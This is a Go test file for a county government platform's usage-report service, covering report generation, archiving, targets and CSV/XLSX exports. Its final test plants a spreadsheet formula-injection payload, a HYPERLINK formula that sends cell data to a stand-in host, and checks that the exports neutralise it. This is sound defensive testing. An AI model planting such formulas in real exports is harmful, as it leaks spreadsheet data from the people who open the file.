package rollout_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/countycloud/countycloud/core/auth"
	"github.com/countycloud/countycloud/core/jobs"
	"github.com/countycloud/countycloud/core/measure"
	"github.com/countycloud/countycloud/core/store/storetest"
	"github.com/countycloud/countycloud/tenants/org"
	"github.com/countycloud/countycloud/tenants/provision/provisiontest"
	"github.com/countycloud/countycloud/tenants/registry"
	"github.com/countycloud/countycloud/tenants/rollout"
)

// reportMeasures are the default template's measures (testMeasures) in
// both counties, and in Wengyuan alone the document and approval
// measures: Lechang has not enabled oa's documents or approval, and
// neither has a video measure.
type reportMeasures struct{}

func (reportMeasures) Measures(ctx context.Context, county string) ([]measure.Definition, error) {
	defs, err := testMeasures{}.Measures(ctx, county)
	if county != wengyuan {
		return defs, err
	}
	for _, id := range []string{"oa.documents.sent", "oa.documents.received", "oa.documents.paper", "approval.applications.decided",
		"approval.applications.decided_online", "approval.applications.decided_on_time", "approval.applications.overdue"} {
		defs = append(defs, measure.Definition{ID: id})
	}
	return append(defs, measure.Definition{ID: "disclosure.index.county_percent", Level: true, CountyWide: true}), err
}

type reportWorld struct {
	*world
	reports *rollout.ReportService
	queue   *jobs.Queue
	signIns *measure.SignIns
}

// newReportWorld is newWorld's two counties with their plans, on
// 2026-12-01, the first day after the half-month 2026-11-16 to 30.
func newReportWorld(t *testing.T) *reportWorld {
	t.Helper()
	db := storetest.New(t)
	reg := provisiontest.Registry(t, db, registry.CreateRequest{Code: wengyuan, Name: "翁源县"}, registry.CreateRequest{Code: lechang, Name: "乐昌市"})
	router := provisiontest.Router(db, 0)
	units := org.NewService(router)
	w := &reportWorld{world: &world{db: db, units: map[string]int64{}, now: time.Date(2026, 12, 1, 9, 0, 0, 0, time.FixedZone("CST", 8*3600))}}
	w.measures = measure.NewService(router, reportMeasures{})
	now := func() time.Time { return w.now }
	w.svc = rollout.New(db.Control, reg, orgUnits{units}, w.measures, now, rollout.Options{})
	w.queue = jobs.NewQueue(db.Control)
	w.reports = rollout.NewReports(db.Control, reg, orgUnits{units}, w.measures, w.queue, now)
	w.signIns = measure.NewSignIns(router)
	ctx := operator(context.Background())
	for _, u := range []struct{ county, name, code string }{
		{wengyuan, "县委办", "XWB"}, {wengyuan, "发改局", "FGJ"}, {wengyuan, "民政局", "MZJ"}, {lechang, "发改局", "FGJ"},
	} {
		created, err := units.CreateUnit(ctx, u.county, org.UnitInput{Name: u.name, Code: u.code})
		if err != nil {
			t.Fatal(err)
		}
		w.units[u.county+"/"+u.code] = created.ID
	}
	for _, county := range []string{wengyuan, lechang} {
		key := map[string][]string{"oa": {"XWB", "FGJ"}, "approval": {"FGJ"}, "disclosure": {"XWB", "FGJ"}}
		if county == lechang {
			key = map[string][]string{"oa": {"FGJ"}, "approval": {"FGJ"}, "disclosure": {"FGJ"}}
		}
		if _, err := w.svc.CreatePlan(ctx, county, rollout.PlanInput{Start: "2026-10-01", KeyUnits: key}); err != nil {
			t.Fatal(err)
		}
	}
	return w
}

// on records value of a measure on day.
func (w *reportWorld) on(t *testing.T, day, county, id, unit string, value int64) {
	t.Helper()
	at := w.now
	d, err := time.ParseInLocation(time.DateOnly, day, time.FixedZone("CST", 8*3600))
	if err != nil {
		t.Fatal(err)
	}
	w.now = d.Add(12 * time.Hour)
	w.record(t, county, id, unit, value)
	w.now = at
}

func wantFigures(t *testing.T, what string, r rollout.ReportRow, want map[string]float64, missing ...string) {
	t.Helper()
	for id, v := range want {
		if got, ok := r.Figures[id]; !ok || got != v {
			t.Errorf("%s: %s is %v (there: %v), want %v", what, id, got, ok, v)
		}
	}
	for _, id := range missing {
		if v, ok := r.Figures[id]; ok {
			t.Errorf("%s: %s is %v, want none", what, id, v)
		}
	}
}

func document(t *testing.T, w *reportWorld, county string, id int64) rollout.ReportDocument {
	t.Helper()
	rep, body, err := w.reports.Document(context.Background(), county, id)
	if err != nil {
		t.Fatal(err)
	}
	if sum := sha256.Sum256(body); hex.EncodeToString(sum[:]) != rep.SHA256 || int64(len(body)) != rep.Size {
		t.Errorf("the digest recorded %s, the bytes' %x (%d bytes)", rep.SHA256, sum, len(body))
	}
	var doc rollout.ReportDocument
	if err := json.Unmarshal(body, &doc); err != nil {
		t.Fatal(err)
	}
	return doc
}

func rowOf(doc rollout.ReportDocument, code string) rollout.ReportRow {
	i := slices.IndexFunc(doc.Rows, func(r rollout.ReportRow) bool { return r.Unit.Code == code })
	if i < 0 {
		return rollout.ReportRow{}
	}
	return doc.Rows[i]
}

func column(doc rollout.ReportDocument, id string) rollout.FigureColumn {
	i := slices.IndexFunc(doc.Columns, func(c rollout.FigureColumn) bool { return c.ID == id })
	if i < 0 {
		return rollout.FigureColumn{}
	}
	return doc.Columns[i]
}

func TestAHalfMonthReportHasEachUnitsFiguresOfItsPeriodAgainstTheTargets(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	if _, err := w.reports.SetTargets(ctx, map[string]float64{"docs_online_rate": 80, "approvals_online_rate": 80, "disclosure_index": 90}); err != nil {
		t.Fatal(err)
	}
	// Before, in and after the half-month.
	w.on(t, "2026-11-10", wengyuan, "oa.documents.sent", "XWB", 5)
	w.on(t, "2026-11-16", wengyuan, "oa.documents.sent", "XWB", 3)
	w.on(t, "2026-11-20", wengyuan, "oa.documents.received", "XWB", 2)
	w.on(t, "2026-11-20", wengyuan, "oa.documents.paper", "XWB", 1)
	w.on(t, "2026-12-01", wengyuan, "oa.documents.sent", "XWB", 4)
	w.on(t, "2026-11-18", wengyuan, "approval.applications.decided", "FGJ", 4)
	w.on(t, "2026-11-18", wengyuan, "approval.applications.decided_online", "FGJ", 3)
	w.on(t, "2026-11-18", wengyuan, "approval.applications.decided_on_time", "FGJ", 2)
	w.on(t, "2026-11-30", wengyuan, "approval.applications.overdue", "FGJ", 1)
	w.on(t, "2026-11-30", wengyuan, measure.TasksLate, "FGJ", 1)
	w.on(t, "2026-11-25", wengyuan, measure.Logins, "FGJ", 7)
	w.on(t, "2026-11-25", wengyuan, "oa.notices.read", "MZJ", 2)
	// Indexes stand: XWB's of the 5th is its figure on the 30th.
	w.on(t, "2026-11-05", wengyuan, "disclosure.index.percent", "XWB", 80)
	w.on(t, "2026-11-20", wengyuan, "disclosure.index.percent", "FGJ", 95)
	w.on(t, "2026-11-20", wengyuan, "disclosure.index.county_percent", "", 88)
	w.on(t, "2026-11-20", lechang, "oa.notices.read", "FGJ", 6)
	// One account of XWB active on three days is one active account.
	xwbStaff := auth.Principal{Kind: auth.KindAccount, ID: 41, Tenant: wengyuan, Unit: w.units[wengyuan+"/XWB"], Session: "s1"}
	for day := 17; day <= 19; day++ {
		if err := w.signIns.Renewed(context.Background(), xwbStaff, time.Date(2026, 11, day, 10, 0, 0, 0, time.UTC)); err != nil {
			t.Fatal(err)
		}
	}

	rep, err := w.reports.GenerateHalfMonth(ctx, wengyuan, "2026-11-16")
	if err != nil {
		t.Fatal(err)
	}
	if rep.From != "2026-11-16" || rep.To != "2026-11-30" || rep.Kind != rollout.KindHalfMonth || rep.UnitID != 0 || len(rep.SHA256) != 64 {
		t.Errorf("the report: %+v", rep)
	}
	doc := document(t, w, wengyuan, rep.ID)
	if doc.Title != "翁源县使用情况报告（2026-11-16至2026-11-30）" || len(doc.Rows) != 3 || doc.Total.Unit.Name != "全县" {
		t.Errorf("the document: %s, %d rows", doc.Title, len(doc.Rows))
	}
	wantFigures(t, "XWB", rowOf(doc, "XWB"), map[string]float64{"docs_sent": 3, "docs_received": 2, "docs_online": 5, "docs_paper": 1,
		"dual_track_share": 33.3, "docs_online_rate": 66.7, "active_accounts": 1, "logins": 0, "disclosure_index": 80}, "video_views")
	wantFigures(t, "FGJ", rowOf(doc, "FGJ"), map[string]float64{"approvals_decided": 4, "approvals_online": 3, "approvals_online_rate": 75,
		"approvals_on_time": 2, "approvals_on_time_rate": 50, "approvals_overdue": 1, "tasks_late": 1, "logins": 7, "active_accounts": 0, "disclosure_index": 95},
		"dual_track_share", "docs_online_rate")
	wantFigures(t, "MZJ", rowOf(doc, "MZJ"), map[string]float64{"notices_read": 2}, "disclosure_index")
	wantFigures(t, "the county", doc.Total, map[string]float64{"docs_online": 5, "approvals_decided": 4, "logins": 7, "notices_read": 2, "active_accounts": 1, "disclosure_index": 88})
	if m := rowOf(doc, "XWB").Met; m["docs_online_rate"] || m["disclosure_index"] || !rowOf(doc, "FGJ").Met["disclosure_index"] {
		t.Errorf("targets met: XWB %v FGJ %v", m, rowOf(doc, "FGJ").Met)
	}
	if c := column(doc, "docs_online_rate"); c.Target == nil || *c.Target != 80 || c.Absent {
		t.Errorf("the target beside its figure: %+v", c)
	}
	if c := column(doc, "video_views"); !c.Absent {
		t.Errorf("video views, which no module of the county records: %+v", c)
	}

	// Lechang has no documents or approvals: absent, not 0.
	lc, err := w.reports.GenerateHalfMonth(ctx, lechang, "2026-11-16")
	if err != nil {
		t.Fatal(err)
	}
	ldoc := document(t, w, lechang, lc.ID)
	for _, id := range []string{"docs_online", "dual_track_share", "approvals_decided", "approvals_online_rate", "video_views"} {
		if !column(ldoc, id).Absent {
			t.Errorf("Lechang's %s is not absent", id)
		}
	}
	wantFigures(t, "Lechang's FGJ", rowOf(ldoc, "FGJ"), map[string]float64{"notices_read": 6, "logins": 0}, "docs_online", "approvals_decided", "approvals_online_rate")
	if _, _, err := w.reports.Document(ctx, wengyuan, lc.ID); code(err) != rollout.CodeReportNotFound {
		t.Errorf("Lechang's report on Wengyuan's route: %v", err)
	}

	// Generated again, after more figures came in and the targets moved:
	// the archived report, unchanged.
	w.on(t, "2026-11-20", wengyuan, "oa.documents.sent", "XWB", 9)
	if _, err := w.reports.SetTargets(ctx, map[string]float64{"docs_online_rate": 50}); err != nil {
		t.Fatal(err)
	}
	w.now = w.now.Add(48 * time.Hour)
	again, err := w.reports.GenerateHalfMonth(ctx, wengyuan, "2026-11-16")
	if err != nil || again != rep {
		t.Errorf("generated again: %+v %v, first %+v", again, err, rep)
	}
	if d := document(t, w, wengyuan, rep.ID); rowOf(d, "XWB").Figures["docs_sent"] != 3 || *column(d, "docs_online_rate").Target != 80 {
		t.Errorf("the archive changed: %+v", rowOf(d, "XWB"))
	}
	var n int
	if err := w.db.Control.Get(&n, "SELECT COUNT(*) FROM rollout_reports WHERE county = ?", wengyuan); err != nil || n != 1 {
		t.Errorf("%d reports of Wengyuan archived (%v)", n, err)
	}
}

func TestAReportIsRefusedForAPeriodNotOverOrNotAHalfMonth(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	for period, want := range map[string]string{"2026-12-01": rollout.CodePeriodNotEnded, "2026-11-17": rollout.CodeInvalidPeriod, "2026-02-30": rollout.CodeInvalidPeriod, "yesterday": rollout.CodeInvalidPeriod} {
		if _, err := w.reports.GenerateHalfMonth(ctx, wengyuan, period); code(err) != want {
			t.Errorf("%s: %v, want %s", period, err, want)
		}
	}
	if _, err := w.reports.GenerateHalfMonth(ctx, "gd.shaoguan.nowhere", "2026-11-01"); code(err) != rollout.CodePlanNotFound {
		t.Errorf("a county without a plan: %v", err)
	}
	if _, err := w.reports.EndOfTrial(ctx, wengyuan, "2026-11-30", "2026-11-01"); code(err) != rollout.CodeInvalidPeriod {
		t.Errorf("an end of trial before its start: %v", err)
	}
	if _, err := w.reports.EndOfTrial(ctx, wengyuan, "2026-11-01", "2026-12-01"); code(err) != rollout.CodePeriodNotEnded {
		t.Errorf("an end of trial not over: %v", err)
	}
	if page, err := w.reports.List(ctx, rollout.ReportFilter{}); err != nil || len(page.Reports) != 0 {
		t.Errorf("refusals archived %+v %v", page, err)
	}
}

func TestTheEndOfTrialReportsAreEachKeyUnitsOnce(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	w.on(t, "2026-11-14", wengyuan, "oa.documents.sent", "XWB", 2)
	w.on(t, "2026-11-20", wengyuan, "oa.documents.sent", "XWB", 3)
	w.on(t, "2026-11-20", wengyuan, "oa.documents.sent", "MZJ", 1)
	staff := auth.Principal{Kind: auth.KindAccount, ID: 7, Tenant: wengyuan, Unit: w.units[wengyuan+"/FGJ"], Session: "s7"}
	for _, day := range []int{13, 14, 20, 29} {
		if err := w.signIns.Renewed(context.Background(), staff, time.Date(2026, 11, day, 3, 0, 0, 0, time.UTC)); err != nil {
			t.Fatal(err)
		}
	}
	reports, err := w.reports.EndOfTrial(ctx, wengyuan, "2026-11-13", "2026-11-30")
	if err != nil {
		t.Fatal(err)
	}
	var codes []string
	for _, r := range reports {
		codes = append(codes, r.UnitCode)
	}
	if !slices.Equal(codes, []string{"XWB", "FGJ"}) {
		t.Fatalf("the key units' reports: %v", codes)
	}
	xwb := document(t, w, wengyuan, reports[0].ID)
	if xwb.Kind != rollout.KindEndOfTrial || xwb.Unit == nil || xwb.Unit.Code != "XWB" || len(xwb.Rows) != 1 || !strings.Contains(xwb.Title, "县委办用户使用报告") {
		t.Errorf("XWB's report: %s %+v", xwb.Title, xwb.Rows)
	}
	wantFigures(t, "XWB over the trial", xwb.Rows[0], map[string]float64{"docs_sent": 5})
	wantFigures(t, "the county over the trial", xwb.Total, map[string]float64{"docs_sent": 6})
	// Active once in each of the two half-months: the busiest one's count.
	fgj := document(t, w, wengyuan, reports[1].ID)
	wantFigures(t, "FGJ's accounts", fgj.Rows[0], map[string]float64{"active_accounts": 1})

	again, err := w.reports.EndOfTrial(ctx, wengyuan, "2026-11-13", "2026-11-30")
	if err != nil || !slices.Equal(again, reports) {
		t.Errorf("again: %+v %v", again, err)
	}
	page, err := w.reports.List(ctx, rollout.ReportFilter{County: wengyuan, Kind: rollout.KindEndOfTrial})
	if err != nil || len(page.Reports) != 2 {
		t.Errorf("listed: %+v %v", page, err)
	}
}

func TestTheSweepGeneratesTheLastHalfMonthOfEveryCountyInRolloutOnce(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	if _, err := w.reports.GenerateHalfMonth(ctx, wengyuan, "2026-11-16"); err != nil {
		t.Fatal(err)
	}
	counties, err := w.reports.Sweep(context.Background())
	if err != nil || !slices.Equal(counties, []string{lechang}) {
		t.Fatalf("swept %v %v", counties, err)
	}
	if _, err := w.reports.Sweep(context.Background()); err != nil {
		t.Fatal(err)
	}
	var queued []jobs.Job
	if err := w.db.Control.Select(&queued, "SELECT id, kind, tenant_code, payload FROM jobs WHERE kind = ?", rollout.JobHalfMonthReports); err != nil {
		t.Fatal(err)
	}
	if len(queued) != 1 || queued[0].Tenant != lechang {
		t.Fatalf("jobs: %+v", queued)
	}
	if err := w.reports.HalfMonthJob(context.Background(), queued[0]); err != nil {
		t.Fatal(err)
	}
	page, err := w.reports.List(ctx, rollout.ReportFilter{County: lechang, Period: "2026-11-16"})
	if err != nil || len(page.Reports) != 1 || page.Reports[0].GeneratedBy != "rollout.reports" {
		t.Errorf("Lechang's report by the job: %+v %v", page, err)
	}
	if counties, err := w.reports.Sweep(context.Background()); err != nil || len(counties) != 0 {
		t.Errorf("a sweep after every county has its report: %v %v", counties, err)
	}
	// A payload that is no job's is not retried.
	if err := w.reports.HalfMonthJob(context.Background(), jobs.Job{Payload: json.RawMessage(`{"county":"` + lechang + `","period":"2026-11-17"}`)}); err == nil || !strings.Contains(err.Error(), "half-months start") {
		t.Errorf("a bad period: %v", err)
	}
}

func TestTargetsAreRefusedWholeWithEveryProblem(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	if _, err := w.reports.SetTargets(ctx, map[string]float64{"docs_online_rate": 80}); err != nil {
		t.Fatal(err)
	}
	_, err := w.reports.SetTargets(ctx, map[string]float64{"logins": 10, "disclosure_index": 101, "approvals_online_rate": 80.25})
	if code(err) != rollout.CodeInvalidTargets || !strings.Contains(err.Error(), "3 problem") {
		t.Errorf("bad targets: %v", err)
	}
	ts, err := w.reports.Targets(ctx)
	if err != nil || len(ts) != 1 || ts[0].Figure != "docs_online_rate" || ts[0].Percent != 80 || ts[0].Label.ZH != "网上发文率（%）" || ts[0].SetBy != "op" {
		t.Errorf("targets after a refusal: %+v %v", ts, err)
	}
}

func TestTheExportsAreRenderedFromTheArchivedJSON(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	w.on(t, "2026-11-16", wengyuan, "oa.documents.sent", "XWB", 3)
	w.on(t, "2026-11-16", wengyuan, measure.Logins, "FGJ", 2)
	rep, err := w.reports.GenerateHalfMonth(ctx, lechang, "2026-11-16")
	if err != nil {
		t.Fatal(err)
	}
	_, body, err := w.reports.Document(ctx, "", rep.ID)
	if err != nil {
		t.Fatal(err)
	}
	data, contentType, err := rollout.Render(body, rollout.FormatCSV)
	if err != nil || !strings.HasPrefix(contentType, "text/csv") {
		t.Fatal(err, contentType)
	}
	if s := string(data); !strings.Contains(s, "网上办文数") || !strings.Contains(s, "未启用") || !strings.Contains(s, "乐昌市") {
		t.Errorf("the CSV:\n%s", s)
	}

	rep, err = w.reports.GenerateHalfMonth(ctx, wengyuan, "2026-11-16")
	if err != nil {
		t.Fatal(err)
	}
	_, body, err = w.reports.Document(ctx, wengyuan, rep.ID)
	if err != nil {
		t.Fatal(err)
	}
	if same, _, err := rollout.Render(body, rollout.FormatJSON); err != nil || !bytes.Equal(same, body) {
		t.Errorf("the JSON export is not the archived bytes: %v", err)
	}
	data, _, err = rollout.Render(body, rollout.FormatXLSX)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("使用情况")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 8 || rows[2][0] != "单位编码" || !slices.Contains(rows[2], "网上办文数") || rows[4][1] != "县委办" || rows[7][1] != "全县" {
		t.Errorf("the workbook's rows: %q", rows)
	}
	i := slices.Index(rows[2], "发文数")
	cell, _ := excelize.CoordinatesToCellName(i+1, 5)
	// A number is stored without a type (excelize: unset), text as a string.
	if typ, err := f.GetCellType("使用情况", cell); err != nil || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) || rows[4][i] != "3" {
		t.Errorf("XWB's documents sent: %q, %v %v", rows[4][i], typ, err)
	}
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var chart string
	for _, zf := range z.File {
		if strings.HasPrefix(zf.Name, "xl/charts/chart") {
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			_, _ = b.ReadFrom(rc)
			rc.Close()
			chart = b.String()
		}
	}
	if !strings.Contains(chart, "barChart") || !strings.Contains(chart, "$B$5:$B$7") {
		t.Errorf("the workbook's chart: %.600s", chart)
	}
}

func FuzzParsePeriod(f *testing.F) {
	for _, s := range []string{"2026-11-16", "2026-11-01", "2026-02-16", "2026-11-17", "", "2026-1-1", "9999-12-16"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		from, to, err := rollout.ParsePeriod(s)
		if err != nil {
			if code(err) != rollout.CodeInvalidPeriod {
				t.Fatalf("%q: %v", s, err)
			}
			return
		}
		a, errA := time.Parse(time.DateOnly, from)
		b, errB := time.Parse(time.DateOnly, to)
		if from != s || errA != nil || errB != nil || b.Before(a) || b.Sub(a) > 15*24*time.Hour || b.AddDate(0, 0, 1).Day() != 1 && b.AddDate(0, 0, 1).Day() != 16 {
			t.Fatalf("%q: %s to %s", s, from, to)
		}
	})
}

func FuzzParseReportFilter(f *testing.F) {
	for _, q := range []string{"county=gd.x&kind=half_month&period=2026-11-16", "limit=5000", "after=-1", "period=2026-13-01", "kind=x", "other=1", "kind=a&kind=b"} {
		f.Add(q, "")
		f.Add(q, wengyuan)
	}
	f.Fuzz(func(t *testing.T, raw, county string) {
		q, err := url.ParseQuery(raw)
		if err != nil {
			return
		}
		flt, err := rollout.ParseReportFilter(q, county)
		if err != nil {
			if code(err) != rollout.CodeInvalidReportReq {
				t.Fatalf("%q: %v", raw, err)
			}
			return
		}
		if county != "" && flt.County != county || flt.Limit > rollout.MaxReportPage || flt.Limit < 0 || flt.After < 0 {
			t.Fatalf("%q in %q: %+v", raw, county, flt)
		}
	})
}

func TestReportsGeneratedAtOnceAreOneArchivedReport(t *testing.T) {
	w := newReportWorld(t)
	ctx := operator(context.Background())
	w.on(t, "2026-11-20", wengyuan, "oa.documents.sent", "XWB", 3)
	const workers = 4
	got := make(chan rollout.Report, workers)
	errs := make(chan error, workers)
	for range workers {
		go func() {
			r, err := w.reports.GenerateHalfMonth(ctx, wengyuan, "2026-11-16")
			got <- r
			errs <- err
		}()
	}
	var first rollout.Report
	for i := range workers {
		r := <-got
		if err := <-errs; err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			first = r
		} else if r != first {
			t.Errorf("two reports of one key: %+v and %+v", first, r)
		}
	}
	var n int
	if err := w.db.Control.Get(&n, "SELECT COUNT(*) FROM rollout_reports"); err != nil || n != 1 {
		t.Errorf("%d archived (%v)", n, err)
	}
}

func TestAnExportRunsNoNameAsAFormula(t *testing.T) {
	evil := `=HYPERLINK("http://x/?"&A1)`
	doc := rollout.ReportDocument{Title: "报告", County: wengyuan, CountyName: evil, Kind: rollout.KindHalfMonth, From: "2026-11-16", To: "2026-11-30",
		Columns: []rollout.FigureColumn{{ID: "logins", Label: rollout.Label{ZH: "登录次数"}}},
		Rows:    []rollout.ReportRow{{Unit: rollout.Unit{ID: 1, Code: "-1", Name: evil}, Figures: map[string]float64{"logins": 2}}},
		Total:   rollout.ReportRow{Unit: rollout.Unit{Name: "全县"}, Figures: map[string]float64{"logins": 2}}}
	body, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	data, _, err := rollout.Render(body, rollout.FormatCSV)
	if err != nil || !strings.Contains(string(data), `'=HYPERLINK`) || !strings.Contains(string(data), "'-1,") {
		t.Errorf("the CSV: %s %v", data, err)
	}
	data, _, err = rollout.Render(body, rollout.FormatXLSX)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if formula, err := f.GetCellFormula("使用情况", "B5"); err != nil || formula != "" {
		t.Errorf("the unit's name is a formula: %q %v", formula, err)
	}
	if v, err := f.GetCellValue("使用情况", "B5"); err != nil || v != evil {
		t.Errorf("the unit's name: %q %v", v, err)
	}
}
